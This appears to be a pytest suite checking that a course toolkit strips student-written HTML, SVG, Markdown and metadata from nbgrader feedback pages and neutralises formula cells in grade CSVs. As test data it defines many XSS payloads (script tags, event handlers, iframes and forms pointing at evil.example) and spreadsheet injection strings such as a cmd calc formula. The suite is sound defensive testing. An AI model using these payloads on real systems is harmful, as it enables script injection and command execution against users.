"""Feedback pages and grade exports are safe to open (cvkit.course.safety).

A determined student controls the outputs of their cells (any MIME type, cvkit's report type
included), their Markdown and raw cells, attachments and metadata. None of it may carry a
script, an event handler, a frame, a style that hides or fakes content, or a remote load
into a feedback page; cvkit's own reports from the trusted grader keep their images, alt
texts and tables. The end-to-end tests run nbgrader's real ``generate_feedback`` with the
course configuration and look at the page (and, when Chromium is there, open it offline).
"""
from __future__ import annotations

import copy
import csv
import json
import os
import re
import sys
from pathlib import Path

import nbformat
import numpy as np
import pytest
from bs4 import BeautifulSoup
from browser_helpers import offline_page
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

import cvkit.filters  # noqa: F401  (registers filters.pad)
from cvkit.grading import evaluate
from cvkit.grading.report import MIME_TYPE
from cvkit.course.safety import (
    MATHJAX_URL, SafeFeedbackExporter, SanitizeStudentContent, csv_safe, install_offline_mathjax, mathjax_files,
    safe_svg, sanitize_csv_file, sanitize_html, sanitize_notebook,
)

# ---------------------------------------------------------------------------- payloads
SCRIPT = "<script>alert('PWNED-script')</script>"
IMG_ONERROR = "<img src=x onerror=\"alert('PWNED-onerror')\">"
SVG_ONLOAD = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('PWNED-svg')\"><circle r='3'/></svg>"
SVG_SCRIPT = ("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('PWNED-svgscript')</script>"
              "<circle r='3'/></svg>")
SVG_FOREIGN = ("<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='https://evil.example/PWNED'/>"
               "</foreignObject></svg>")
IFRAME = "<iframe src='https://evil.example/PWNED-iframe'></iframe><iframe srcdoc=\"<script>alert('PWNED-srcdoc')</script>\"></iframe>"
STYLE_HIDE = "<style>.cvkit-report, .panel-heading {display: none} /* PWNED-style */</style>"
META_REFRESH = "<meta http-equiv='refresh' content='0;url=https://evil.example/PWNED-meta'>"
FAKE_SCORE = ("<div class='navbar-fixed-top' style='position:fixed;top:0;left:0;width:100%;height:100%;"
              "background:white;z-index:9999'>Score: 10 / 10 PWNED-overlay</div>")
MISC = ("<a href='JaVaScRiPt:alert(\"PWNED-jslink\")'>click</a>"
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>PWNED-data-link</a>"
        "<form action='https://evil.example/PWNED-form'><input name='password'><button>go</button></form>"
        "<object data='https://evil.example/PWNED-object'></object><embed src='https://evil.example/PWNED-embed'>"
        "<base href='https://evil.example/PWNED-base/'><link rel='stylesheet' href='https://evil.example/PWNED-link'>"
        "<img src='https://evil.example/PWNED-tracker.png'><img src='//evil.example/PWNED-tracker2.png'>"
        "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>PWNED-math</maction></math>"
        "<div onmouseover=\"alert('PWNED-hover')\">hover</div><body onload=\"alert('PWNED-body')\">")
ALL_HTML = "".join([SCRIPT, IMG_ONERROR, SVG_ONLOAD, IFRAME, STYLE_HIDE, META_REFRESH, FAKE_SCORE, MISC])
MARKDOWN = f"""# A student's heading

Text with math $a<b$ and a [link](javascript:alert('PWNED-mdlink')) and [another](  javascript:alert('PWNED-md2') ).

![tracker](https://evil.example/PWNED-mdimg.png) ![svg attachment](attachment:evil.svg)

{ALL_HTML}
"""
TOKEN = re.compile(r"PWNED-[a-z0-9]+")
EVIL_SVG_B64 = "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4="
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def wrong_pad(image, radius, border="reflect101"):
    """A typical mistake: the border is always zero."""
    image = np.asarray(image, dtype=float)
    ry, rx = (radius, radius) if np.isscalar(radius) else radius
    out = np.zeros((image.shape[0] + 2 * ry, image.shape[1] + 2 * rx) + image.shape[2:])
    out[ry:ry + image.shape[0], rx:rx + image.shape[1]] = image
    return out


@pytest.fixture(scope="module")
def report():
    result = evaluate("filters.pad", wrong_pad)
    assert not result.passed and result.mistake
    return result


def trusted_bundle(report) -> dict:
    return report.mime_bundle()  # as the trusted grader writes it (cvkit.course.nbgrader_plugins)


def fake_report_bundle() -> dict:
    """What an answer cell can display: cvkit's report MIME type, with a script inside."""
    return {MIME_TYPE: {"algorithm": "filters.pad", "passed": True, "score": 1.0},
            "text/plain": "filters.pad: passed",
            "text/html": ("<section class='cvkit-report cvkit-passed' style='position:fixed;top:0'>"
                          f"✓ all passed {SCRIPT}{IMG_ONERROR}</section>")}


def grading(grade_id, *, solution=False, grade=False, points=0, locked=False):
    meta = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3, "solution": solution,
            "task": False}
    if grade:
        meta["points"] = points
    return {"nbgrader": meta}


def evil_outputs() -> list:
    return [
        new_output("display_data", data={"text/html": ALL_HTML, "text/plain": "html"}),
        new_output("display_data", data={"image/svg+xml": SVG_ONLOAD}),
        new_output("display_data", data={"image/svg+xml": SVG_SCRIPT, "text/plain": "<svg>"}),
        new_output("display_data", data={"application/javascript": "alert('PWNED-js')"}),
        new_output("display_data", data={"text/markdown": MARKDOWN.replace("![svg attachment](attachment:evil.svg)", "")}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "PWNED-widget"},
                                         "text/plain": "widget"}),
        new_output("display_data", data={"text/html": "<b>isolated</b><script>alert('PWNED-isolated')</script>"},
                   metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"image/png": PNG_1PX},
                   metadata={"image/png": {"width": "1 onerror=alert('PWNED-width')"},
                             "filenames": {"image/png": "javascript:alert('PWNED-filename')"}}),
        new_output("execute_result", data={"text/html": SCRIPT, "text/plain": "3"}, execution_count=4),
        new_output("stream", name="stdout", text=SCRIPT),
        new_output("error", ename="ValueError", evalue=SCRIPT, traceback=[IMG_ONERROR]),
        new_output("display_data", data=fake_report_bundle()),
    ]


def evil_notebook(report, *, trusted=True) -> nbformat.NotebookNode:
    """A submission with every trick, graded by the trusted grader (test cell outputs replaced)."""
    attack_md = new_markdown_cell(MARKDOWN)
    attack_md["attachments"] = {"evil.svg": {"image/svg+xml": EVIL_SVG_B64, "text/html": SCRIPT}}
    cells = [
        new_markdown_cell("# Chapter 3: padding\n\nPad with $r$ pixels on each side.",
                          metadata={"nbgrader": {"grade": False, "grade_id": "intro", "locked": True,
                                                 "schema_version": 3, "solution": False, "task": False}}),
        new_code_cell("import numpy as np\nfrom cvkit.grading import check", metadata=grading("setup", locked=True)),
        new_code_cell("def pad(image, radius, border='reflect101'):\n    ...", outputs=evil_outputs(),
                      metadata=grading("pad_answer", solution=True), execution_count=2),
        new_code_cell('check("filters.pad", pad)', metadata=grading("pad_visible", grade=True, points=2, locked=True),
                      outputs=[new_output("display_data", data=trusted_bundle(report)),
                               new_output("error", ename="AssertionError", evalue="failed",
                                          traceback=["AssertionError: failed"])],
                      execution_count=3),
        attack_md,
        new_markdown_cell(f"My essay. {SCRIPT}", metadata=grading("essay", solution=True, grade=True, points=1)),
        new_code_cell("display(Javascript(...))", outputs=[new_output("display_data", data=fake_report_bundle())]),
        new_raw_cell(ALL_HTML, metadata={"raw_mimetype": "text/html"}),
    ]
    nb = new_notebook(cells=cells)
    nb.cells[6]["execution_count"] = "<script>alert('PWNED-count')</script>"  # invalid, yet it can be in a file
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["title"] = "</title><script>alert('PWNED-title')</script>"
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"x": "</script><script>alert('PWNED-widgetstate')</script>"}, "version_major": 2}}
    if trusted:
        nb.metadata["cvkit"] = {"trusted": True, "flags": []}
    return nb


# ---------------------------------------------------------------------------- page checks
OUR_SCRIPTS = 2  # the MathJax configuration and MathJax.js itself


def assert_inert(page: str) -> BeautifulSoup:
    """Nothing in ``page`` that a student wrote can run, load, navigate, or hide/fake content."""
    soup = BeautifulSoup(page, "html.parser")
    scripts = soup.find_all("script")
    assert len(scripts) == OUR_SCRIPTS, [str(s)[:200] for s in scripts]
    assert scripts[0].get("src") is None and "window.MathJax" in scripts[0].string
    assert scripts[1].get("src") == MATHJAX_URL
    for script in scripts:
        assert not TOKEN.search(str(script)), script
    for style in soup.find_all("style"):
        assert not TOKEN.search(style.get_text()), "student CSS reached the page"
    for name in ("iframe", "object", "embed", "base", "form", "input", "button", "link", "frame", "applet"):
        found = [str(t)[:120] for t in soup.find_all(name) if name != "link" or "PWNED" in str(t)]
        assert not found, (name, found)
    assert not [m for m in soup.find_all("meta") if m.get("http-equiv")], "meta refresh reached the page"
    for tag in soup.find_all(True):
        for attribute, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            assert not attribute.lower().startswith("on"), (tag.name, attribute, value)
            assert "javascript:" not in value.lower().replace(" ", ""), (tag.name, attribute, value)
            if attribute.lower() in ("src", "href", "action", "data", "poster", "srcset", "xlink:href"):
                assert "evil.example" not in value, (tag.name, attribute, value)
                assert not value.lower().startswith("data:text"), (tag.name, attribute, value)
            assert "position:fixed" not in value.replace(" ", "").lower(), (tag.name, attribute, value)
    assert not soup.select(".navbar-fixed-top"), "a page class that fixes an element over the page"
    return soup


def assert_report_intact(soup: BeautifulSoup, report) -> None:
    """cvkit's report: its section, table (caption, th scope), images with alt text, styles."""
    sections = soup.select("section.cvkit-report")
    assert len(sections) == 1, "exactly the trusted report keeps its classes (the forged ones lose them)"
    section = sections[0]
    assert "cvkit-failed" in section["class"] and section.get("role") == "region"
    assert "border-left:4pxsolidvar(--jp-error-color1" in section["style"].replace(" ", "")
    assert section.find("caption") and section.find("th", scope="col")
    images = section.find_all("img")
    expected = BeautifulSoup(report._repr_html_(), "html.parser").find_all("img")
    assert len(images) == len(expected) == 3
    for got, want in zip(images, expected):
        assert got["src"] == want["src"] and got["src"].startswith("data:image/png;base64,")
        assert got["alt"] == want["alt"] and len(got["alt"]) > 20
        assert "image-rendering:pixelated" in got["style"].replace(" ", "")
    assert report.mistake in section.get_text()


def assert_fragment_inert(fragment: str) -> None:
    """No element or attribute of ``fragment`` can run, load, navigate or overlay anything."""
    soup = BeautifulSoup(f"<html><head></head><body>{fragment}</body></html>", "html.parser")
    assert not soup.find_all(["script", "style", "iframe", "object", "embed", "meta", "base", "form", "link", "svg",
                              "math", "input", "button", "frame"])
    for tag in soup.find_all(True):
        for attribute, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            assert not attribute.startswith("on") and "javascript:" not in value.lower(), (tag.name, attribute)
            assert "evil.example" not in value and "position:fixed" not in value.replace(" ", ""), (tag.name, value)
            assert not (attribute in ("href", "src") and value.lower().startswith("data:text")), (tag.name, value)


# ---------------------------------------------------------------------------- unit tests
@pytest.mark.parametrize("payload", [SCRIPT, IMG_ONERROR, SVG_ONLOAD, IFRAME, STYLE_HIDE, META_REFRESH, FAKE_SCORE,
                                     MISC, ALL_HTML])
@pytest.mark.parametrize("trusted_report", [False, True])
def test_sanitize_html_removes_everything_active(payload, trusted_report):
    cleaned = sanitize_html(payload, trusted_report=trusted_report)
    assert_fragment_inert(cleaned)
    if not trusted_report:
        assert "style=" not in cleaned and "class=" not in cleaned


@pytest.mark.parametrize("html", [
    '<a href="java&#09;script:alert(1)">a</a>', '<a href=" JAVASCRIPT:alert(1)">a</a>', '<a href="vbscript:x">a</a>',
    '<a href="&#0;javascript:alert(1)">a</a>', '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<img src="java&#09;script:alert(1)">', '<img src="ht&#09;tps://evil.example/x.png">',
    '<img src=" //evil.example/x.png">', '<img src="/\\evil.example/x.png">', '<img src="&#10;//evil.example/x">',
    '<img src="https://evil.example/x.png">', '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="data:text/html;base64,PHN2Zy8+">',
])
def test_urls_that_browsers_would_resolve_to_scripts_or_remote_loads_are_removed(html):
    cleaned = sanitize_html(html)
    assert "href=" not in cleaned and "src=" not in cleaned, cleaned


def test_strict_policy_keeps_ordinary_content():
    html = ("<h2 id='Result'>Result</h2><p>mean <b>3.2</b>, <i>σ</i> = 0.1 <a href='https://example.org/x'>docs</a> "
            "<a href='#Result'>up</a></p><table><tr><th>a</th><td>1</td></tr></table><pre>x &lt; y</pre>"
            f"<img alt='tiny' src='data:image/png;base64,{PNG_1PX}'><ul><li>one</li></ul>")
    soup = BeautifulSoup(sanitize_html(html), "html.parser")
    assert soup.find("h2")["id"] == "md-Result" and soup.find("a", href="#md-Result")
    assert soup.find("a", href="https://example.org/x")["rel"] == ["noopener", "noreferrer", "nofollow"]
    assert soup.find("table") and soup.find("pre").get_text() == "x < y" and soup.find("li")
    assert soup.find("img")["src"].startswith("data:image/png;base64,") and soup.find("img")["alt"] == "tiny"
    assert sanitize_html(sanitize_html(html)) == sanitize_html(html)  # cleaning twice changes nothing


def test_genuine_report_keeps_images_alt_texts_and_tables(report):
    original = report._repr_html_()
    cleaned = sanitize_html(original, trusted_report=True)
    soup = BeautifulSoup(cleaned, "html.parser")
    assert_report_intact(soup, report)
    figures = soup.find_all("figure")
    assert len(figures) == 3 and [f.figcaption.get_text()[:5] for f in figures][:2] == ["yours", "expec"]
    assert "✗" in cleaned and report.hint in soup.get_text()
    # the same report with the strict policy: still readable, images and alt texts kept, no styles
    strict = BeautifulSoup(sanitize_html(original), "html.parser")
    assert len(strict.find_all("img", alt=True)) == 3 and strict.find("caption") and "style" not in str(strict)


def test_report_policy_allows_details_and_rejects_remote_or_script_images():
    html = ("<details open><summary>more</summary><span class='x' style='color:red;position:fixed'>t</span></details>"
            f"<img alt='a' src='data:image/png;base64,{PNG_1PX}'><img alt='b' src='https://evil.example/x.png'>"
            "<img alt='c' src='data:image/svg+xml;base64,PHN2Zy8+'><img alt='d' src='javascript:alert(1)'>")
    soup = BeautifulSoup(sanitize_html(html, trusted_report=True), "html.parser")
    assert soup.find("details") and soup.find("summary")
    assert soup.find("span")["style"].replace(" ", "") == "color:red" and soup.find("span")["class"] == ["x"]
    srcs = {img["alt"]: img.get("src") for img in soup.find_all("img")}
    assert srcs["a"].startswith("data:image/png") and srcs["b"] is None and srcs["c"] is None and srcs["d"] is None


def test_svg_is_kept_only_when_inert():
    plain = ("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
             "<defs><path id='m' d='M0 0L1 1'/></defs><use xlink:href='#m' style='fill:url(#g)'/></svg>")
    assert safe_svg(plain) == plain
    for evil in (SVG_ONLOAD, SVG_SCRIPT, SVG_FOREIGN,
                 "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><text>x</text></a></svg>",
                 "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/x.png'/></svg>",
                 "<svg xmlns='http://www.w3.org/2000/svg'><set attributeName='href' to='javascript:alert(1)'/></svg>",
                 "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(https://evil.example/a.css)</style></svg>",
                 "<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>",
                 "<svg not xml"):
        assert safe_svg(evil) is None, evil


def test_preprocessor_cleans_every_student_output_and_keeps_the_trusted_report(report):
    nb = evil_notebook(report)
    resources = {"nbgrader": {"notebook": "ch03<script>", "score": 0, "max_score": 3, "late_penalty": 0}}
    nb, resources = SanitizeStudentContent().preprocess(nb, resources)
    assert resources["nbgrader"]["notebook"] == "ch03&lt;script&gt;"
    answer, test = nb.cells[2], nb.cells[3]
    for output in answer.outputs:
        data = output.get("data", {})
        assert not set(data) - {"text/plain", "text/html", "image/png", "image/svg+xml"}, set(data)
        assert MIME_TYPE not in data, "an answer cell cannot emit a trusted report"
        assert_fragment_inert(data.get("text/html", ""))
        assert "isolated" not in json.dumps(output.get("metadata", {}))
        assert "filenames" not in output.get("metadata", {})
    by_kind = [sorted(o.get("data", {})) for o in answer.outputs]
    assert by_kind[1] == ["text/plain"] and "image/svg+xml" in answer.outputs[1].data["text/plain"]
    assert by_kind[3] == ["text/plain"] and "application/javascript" in answer.outputs[3].data["text/plain"]
    assert "text/html" in answer.outputs[4].data  # Markdown output rendered and cleaned
    assert answer.outputs[7].metadata == {}  # a width that is not a number is dropped
    forged = answer.outputs[-1].data["text/html"]
    assert forged.startswith("✓ all passed") and "class=" not in forged and "style=" not in forged
    # the trusted grader's report in the test cell keeps its HTML and MIME type
    assert MIME_TYPE in test.outputs[0].data
    assert_report_intact(BeautifulSoup(test.outputs[0].data["text/html"], "html.parser"), report)
    # Markdown and raw cells: cleaned HTML in one block, attachments gone
    markdown = nb.cells[4]
    assert markdown.source.startswith('<div class="cvkit-md">') and "\n" not in markdown.source
    assert "attachments" not in markdown and "<script" not in markdown.source
    assert "$a&lt;b$" in markdown.source  # math stays for MathJax
    assert nb.cells[6].execution_count is None
    assert nb.cells[7].cell_type == "markdown" and nb.cells[7].source.startswith('<div class="cvkit-md">')
    assert_fragment_inert(nb.cells[7].source)
    assert "Score: 10 / 10" in nb.cells[7].source and "style=" not in nb.cells[7].source  # text only
    assert "widgets" not in nb.metadata and "<script" not in nb.metadata["title"]


def test_cleaning_twice_changes_nothing(report):
    once = sanitize_notebook(evil_notebook(report), {"nbgrader": {"notebook": "x"}})
    twice = sanitize_notebook(copy.deepcopy(once))
    assert twice == once


def test_untrusted_notebook_or_cell_gets_the_strict_policy(report):
    # a notebook that did not go through the trusted grader: test-cell outputs came from the
    # student's kernel (which can rebind check), so even the real report loses classes/styles
    nb = sanitize_notebook(evil_notebook(report, trusted=False))
    html = nb.cells[3].outputs[0].data["text/html"]
    assert MIME_TYPE not in nb.cells[3].outputs[0].data and "style=" not in html and "class=" not in html
    assert len(BeautifulSoup(html, "html.parser").find_all("img", alt=True)) == 3  # still useful
    # a grade cell without check(...) calls is not decided by the trusted grader either
    nb = evil_notebook(report)
    nb.cells[3].source = "assert pad is not None"
    nb = sanitize_notebook(nb)
    assert "style=" not in nb.cells[3].outputs[0].data["text/html"]


def test_grade_ids_and_comments_cannot_inject(report):
    nb = evil_notebook(report)
    nb.cells[5].metadata.nbgrader["grade_id"] = "essay\"><script>alert('PWNED-gid')</script>"
    nb.cells[5].metadata.nbgrader["comment"] = f"Good **work** {SCRIPT} [x](javascript:alert(1))"
    nb = sanitize_notebook(nb)
    assert re.fullmatch(r"[A-Za-z0-9_.\-]+", nb.cells[5].metadata.nbgrader["grade_id"])
    comment = nb.cells[5].metadata.nbgrader["comment"]
    assert "<strong>work</strong>" in comment and "<script" not in comment and "javascript" not in comment


def test_attachments_are_raster_images_and_a_missing_one_keeps_the_cell():
    cell = new_markdown_cell("![ok](attachment:ok.png) ![evil](attachment:evil.svg) ![gone](attachment:gone.png) "
                             "<b>bold</b>")
    cell["attachments"] = {"ok.png": {"image/png": PNG_1PX}, "evil.svg": {"image/svg+xml": EVIL_SVG_B64}}
    nb = sanitize_notebook(new_notebook(cells=[cell, new_raw_cell("\\section{x}", metadata={"raw_mimetype": "text/latex"})]))
    assert len(nb.cells) == 1, "a LaTeX raw cell is never shown in HTML"
    images = {img["alt"]: img.get("src") for img in BeautifulSoup(nb.cells[0].source, "html.parser").find_all("img")}
    assert images["ok"] == f"data:image/png;base64,{PNG_1PX}"
    assert images["evil"] == images["gone"] == "data:image/png;base64,"  # shown as their alt text
    assert "<b>bold</b>" in nb.cells[0].source


# ---------------------------------------------------------------------------- the exporter
def feedback_config():
    """The HTMLExporter configuration that nbgrader's GenerateFeedback sets up."""
    import nbgrader.converters.generate_feedback as generate_feedback
    from traitlets.config import Config

    base = Path(generate_feedback.__file__).resolve().parent.parent / "server_extensions" / "formgrader"
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [str(base / "templates")]
    config.HTMLExporter.extra_template_paths = [str(base / "static" / "node_modules" / "bootstrap" / "dist" / "css")]
    config.Exporter.default_preprocessors = []
    return config


def feedback_exporter():
    """The exporter as the course configures GenerateFeedback (without the gradebook)."""
    from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor

    from cvkit.course.nbgrader_plugins import HideHiddenTests

    exporter = SafeFeedbackExporter(config=feedback_config())
    for preprocessor in (SanitizeStudentContent, HideHiddenTests, CSSHTMLHeaderPreprocessor):
        exporter.register_preprocessor(preprocessor, enabled=True)
    return exporter


def export(nb, exporter=None):
    for cell in nb.cells:  # what nbgrader's GetGrades adds from the gradebook
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["score"] = 0.0
    resources = {"nbgrader": {"notebook": "ch03_filtering", "score": 1, "max_score": 3, "late_penalty": 0}}
    page, _ = (exporter or feedback_exporter()).from_notebook_node(nb, resources=resources)
    return page


def test_feedback_page_is_inert_and_keeps_the_report(report):
    page = export(evil_notebook(report))
    soup = assert_inert(page)
    assert_report_intact(soup, report)
    assert "Chapter 3: padding" in page and "$a&lt;b$" in page


def test_exporter_alone_is_safe_and_keeps_the_page_on_markdown_errors(report):
    """Without the preprocessor in the configuration the exporter runs it itself; its
    Markdown filter cleans what the template renders (nbgrader comments), and a Markdown error
    (a missing attachment) shows text instead of failing the page."""
    config = feedback_config()
    nb = evil_notebook(report)
    nb.cells.append(new_markdown_cell("![x](attachment:missing.png)"))
    page = export(nb, SafeFeedbackExporter(config=config))
    assert_inert(page)
    exporter = SafeFeedbackExporter(config=config)
    assert "<script" not in exporter.markdown2html({"cell": {}}, f"**a** {SCRIPT}")


def test_plain_nbconvert_would_have_let_the_attacks_through(report):
    """The reason for all this: nbgrader's feedback exporter as shipped runs student scripts."""
    from nbconvert.exporters import HTMLExporter

    nb = evil_notebook(report)
    nb.cells[6]["execution_count"] = None  # plain nbconvert refuses an invalid notebook
    page = export(nb, HTMLExporter(config=feedback_config()))
    assert "alert('PWNED-script')" in page and "cdnjs.cloudflare.com" in page


# ---------------------------------------------------------------------------- MathJax
def test_offline_mathjax_is_installed_next_to_every_page(tmp_path):
    files = mathjax_files()
    assert "MathJax.js" in files and "config/TeX-AMS-MML_HTMLorMML-full.js" in files and "extensions/Safe.js" in files
    assert not [f for f in files if f.startswith(("localization/", "extensions/a11y/", "jax/output/SVG/"))]
    pages = [tmp_path / "alice" / "ch01" / "ch01.html", tmp_path / "bob" / "ch01" / "ch01.html"]
    for page in pages:
        page.parent.mkdir(parents=True)
        page.write_text("<html></html>")
    assert install_offline_mathjax(tmp_path) == [p.parent for p in pages]
    for page in pages:
        assert (page.parent / MATHJAX_URL.split("?")[0]).is_file()
        assert (page.parent / "mathjax" / "fonts" / "HTML-CSS" / "STIX-Web" / "woff").is_dir()
    master = next(tmp_path.glob(".mathjax-*"))
    assert os.path.samefile(master / "MathJax.js", pages[0].parent / "mathjax" / "MathJax.js")  # hard links
    before = (pages[1].parent / "mathjax" / "MathJax.js").stat().st_ino
    install_offline_mathjax(tmp_path)  # again: nothing to do
    assert (pages[1].parent / "mathjax" / "MathJax.js").stat().st_ino == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["alice", "bob", master.name, ".mathjax-work"])
    assert not list((tmp_path / ".mathjax-work").iterdir())  # no leftovers
    assert sorted(p.name for p in pages[0].parent.iterdir()) == ["ch01.html", "mathjax"]
    # an older or broken copy is replaced; a folder that vanished meanwhile is skipped
    (pages[0].parent / "mathjax" / ".cvkit-mathjax").write_text("MathJax 2.0\n")
    assert install_offline_mathjax(tmp_path, [pages[0].parent, tmp_path / "gone" / "ch01"]) == [pages[0].parent]
    assert (pages[0].parent / "mathjax" / "MathJax.js").is_file()
    assert not list((tmp_path / ".mathjax-work").iterdir())


# ---------------------------------------------------------------------------- nbgrader end to end
def source_notebook() -> nbformat.NotebookNode:
    cells = [
        new_markdown_cell("# Chapter 3: padding\n\nPad with $r$ pixels on each side: $$P(x) = I(|x|)$$"),
        new_code_cell("import numpy as np\nfrom cvkit.grading import check", metadata=grading("setup", locked=True)),
        new_code_cell("def pad(image, radius, border='reflect101'):\n    ### BEGIN SOLUTION\n    return image\n"
                      "    ### END SOLUTION", metadata=grading("pad_answer", solution=True)),
        new_code_cell('check("filters.pad", pad)', metadata=grading("pad_visible", grade=True, points=2, locked=True)),
        new_markdown_cell("Explain reflect101.", metadata=grading("essay_prompt", locked=True)),
        new_markdown_cell("YOUR ANSWER HERE", metadata=grading("essay", solution=True, grade=True, points=1)),
    ]
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


@pytest.fixture(scope="module")
def feedback_page(tmp_path_factory, report):
    """nbgrader's generate_feedback with the course configuration on an evil submission."""
    with pytest.MonkeyPatch.context() as patch:  # nbgrader runs `alembic` from the environment's bin/
        patch.setenv("PATH", str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""))
        return _feedback_page(tmp_path_factory.mktemp("course"), report)


def _feedback_page(root: Path, report) -> Path:
    from nbgrader.api import Gradebook

    from cvkit.course import Course

    source = root / "source"
    (source / "tiny").mkdir(parents=True)
    nbformat.write(source_notebook(), source / "tiny" / "tiny.ipynb")
    course = Course(root=root)
    api = course.nbgrader_api(**{"CourseDirectory.source_directory": str(source)})
    outcome = api.generate_assignment("tiny", force=True)
    assert outcome["success"], outcome.get("error", "")[-3000:]
    with Gradebook(course.db_url) as gradebook:
        gradebook.update_or_create_student("mallory")
        gradebook.add_submission("tiny", "mallory")
        comment = gradebook.find_comment("essay", "tiny", "tiny", "mallory")
        comment.manual_comment = f"Nice **try**. {SCRIPT} [x](javascript:alert('PWNED-comment'))"
        gradebook.db.commit()
    submission = copy.deepcopy(evil_notebook(report))
    for cell in submission.cells:  # the ids of the released notebook
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id == "intro":
            cell.metadata.pop("nbgrader")
    target = root / "autograded" / "mallory" / "tiny"
    target.mkdir(parents=True)
    nbformat.write(submission, target / "tiny.ipynb")
    outcome = api.generate_feedback("tiny", student_id="mallory", force=True)
    assert outcome["success"], outcome.get("error", "")[-3000:]
    page = root / "feedback" / "mallory" / "tiny" / "tiny.html"
    assert page.is_file(), outcome.get("log", "")[-3000:]
    return page


def test_nbgrader_feedback_is_inert_and_keeps_the_report(feedback_page, report):
    html = feedback_page.read_text()
    soup = assert_inert(html)
    assert_report_intact(soup, report)
    assert "Nice <strong>try</strong>" in html and "PWNED-comment" not in html  # the grader's comment, cleaned
    assert "Score:" in html and "cdnjs" not in html and "https://" not in " ".join(
        str(s.get("src", "")) for s in soup.find_all(["script", "img", "link"]))


def test_nbgrader_feedback_loads_mathjax_from_its_folder(feedback_page):
    soup = BeautifulSoup(feedback_page.read_text(), "html.parser")
    sources = [s["src"] for s in soup.find_all("script", src=True)]
    assert sources == [MATHJAX_URL]
    assert (feedback_page.parent / sources[0].split("?")[0]).is_file()  # installed by the post-convert hook
    for name in ("config/TeX-AMS-MML_HTMLorMML-full.js", "config/Safe.js", "extensions/Safe.js",
                 "jax/output/HTML-CSS/fonts/STIX-Web/fontdata.js"):
        assert (feedback_page.parent / "mathjax" / name).is_file(), name


@pytest.mark.slow
def test_feedback_page_in_a_browser_offline(feedback_page):
    """Chromium opens the page from disk with every non-file request refused: no dialog, no
    attempt to reach the network, and MathJax typesets the formulas."""
    with offline_page(feedback_page) as (page, remote, dialogs):
        page.wait_for_function("window.MathJax && window.MathJax.isReady === true", timeout=30_000)
        page.evaluate("() => new Promise(done => MathJax.Hub.Queue(done))")
        assert page.locator(".MathJax, .MathJax_Display").count() >= 2
        assert page.locator(".MathJax_Error, .merror").count() == 0
        page.wait_for_timeout(300)
        assert not dialogs and not remote, (dialogs, remote)
        assert page.locator("section.cvkit-report img").count() == 3
        assert page.evaluate("() => [...document.querySelectorAll('section.cvkit-report img')]"
                             ".every(img => img.complete && img.naturalWidth > 0)")


# ---------------------------------------------------------------------------- CSV
@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("alice", "alice"),
    ("O'Brien", "O'Brien"),
    ("", ""),
    (None, ""),
    (-1.5, "-1.5"),
    (3, "3"),
    (np.float64(-0.25), "-0.25"),
    ("-1.5", "-1.5"),
    ("+3e-2", "+3e-2"),
    ("-.5", "-.5"),
    ("2024-01-02 10:00:00", "2024-01-02 10:00:00"),
    ("'=already", "'=already"),
])
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_sanitize_csv_file_rewrites_every_cell(tmp_path):
    path = tmp_path / "grades.csv"
    # as nbgrader's CsvExportPlugin writes it: joined with commas, no quoting
    path.write_text("assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,"
                    "late_submission_penalty,score,max_score\n"
                    "ch01,None,2024-01-02 10:00:00,s1,=cmd|' /C calc'!A0,@alice,-x@evil.example,3.0,-1.5,1.5,4.0\n")
    sanitize_csv_file(path)
    rows = list(csv.reader(path.open(newline="")))
    assert rows[0][0] == "assignment" and len(rows) == 2
    row = dict(zip(rows[0], rows[1]))
    assert row["last_name"] == "'=cmd|' /C calc'!A0" and row["first_name"] == "'@alice"
    assert row["email"] == "'-x@evil.example"
    assert row["late_submission_penalty"] == "-1.5" and row["score"] == "1.5"  # numbers stay numbers
    before = path.read_text()
    sanitize_csv_file(path)
    assert path.read_text() == before  # idempotent
